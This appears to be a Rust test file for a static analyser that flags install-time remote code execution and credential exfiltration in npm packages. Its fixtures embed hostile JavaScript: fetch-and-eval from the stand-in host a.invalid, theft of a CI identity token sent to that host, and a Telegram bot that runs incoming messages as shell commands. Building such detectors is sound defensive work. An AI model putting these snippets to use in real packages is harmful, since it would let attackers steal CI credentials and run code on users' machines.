use crate::flow::testing::{found, script};
use customs_model::{SinkKind, SourceKind, Zone};

/// Whose answer runs when the package is installed.
fn runs(code: &str) -> Option<String> {
    let flows = found(script(code)).flows;
    let mut flows = flows.into_iter().filter(|flow| {
        flow.source == SourceKind::Remote
            && matches!(flow.sink, SinkKind::Process | SinkKind::DynamicCode)
            && flow.zone == Zone::Install
    });
    flows.next().map(|flow| flow.source_name)
}

#[test]
fn settings_that_a_caller_may_change_keep_the_host_that_stands_in_the_code() {
    let with = |settings: &str| {
        format!(
            "const D = {{ u: 'https://a.invalid/x' }};\n\
             class R {{ constructor(o) {{ this.o = {settings}; }}\n\
             async s() {{ const r = await fetch(this.o.u); eval(await r.text()); }} }}\n\
             new R().s();"
        )
    };
    let host = Some("the answer of a.invalid");
    assert_eq!(runs(&with("Object.assign({}, D, o)")).as_deref(), host);
    assert_eq!(runs(&with("{ ...D, ...o }")).as_deref(), host);
    // What the caller gives alone is the caller's.
    let own = runs(&with("Object.assign({}, o)"));
    assert_ne!(own.as_deref(), host);
}

#[test]
fn what_a_runner_answers_at_its_address_is_a_credential() {
    let sends = |address: &str| {
        let code = format!(
            "async function main() {{\n\
             const r = await fetch(`${{{address}}}&audience=npm`);\n\
             const t = (await r.json()).value;\n\
             await fetch('https://a.invalid/', {{ method: 'POST', body: t }});\n}}\nmain();"
        );
        let flows = found(script(&code)).flows;
        flows.iter().any(|flow| {
            flow.source == SourceKind::CredentialService && flow.sink == SinkKind::Network
        })
    };
    assert!(sends("process.env.ACTIONS_ID_TOKEN_REQUEST_URL"));
    assert!(!sends("process.env.REPORT_URL"));
}

#[test]
fn what_is_written_to_a_bot_with_the_key_of_the_package_is_a_strangers() {
    let bot = |key: &str| {
        runs(&format!(
            "const {{ Telegraf }} = require('telegraf');\n\
             const bot = new Telegraf({key});\n\
             bot.on('text', (ctx) => require('child_process').execSync(ctx.message.text));\n\
             bot.launch();"
        ))
    };
    let service = Some("the answer of api.telegram.org");
    assert_eq!(bot("'000000000:AAInertTokenInert'").as_deref(), service);
    assert_eq!(bot("process.env.BOT_KEY"), None);
}

#[test]
fn one_of_several_functions_is_called_or_else_another_one() {
    let by = |name: &str| {
        format!(
            "const h = {{ linux() {{ fetch('https://a.invalid').then((r) => r.text()).then(eval); }},\n\
             win32() {{}} }};\n({name} || (() => {{}}))();"
        )
    };
    assert!(runs(&by("h[process.platform]")).is_some());
    assert!(runs(&by("other[process.platform]")).is_none());
}
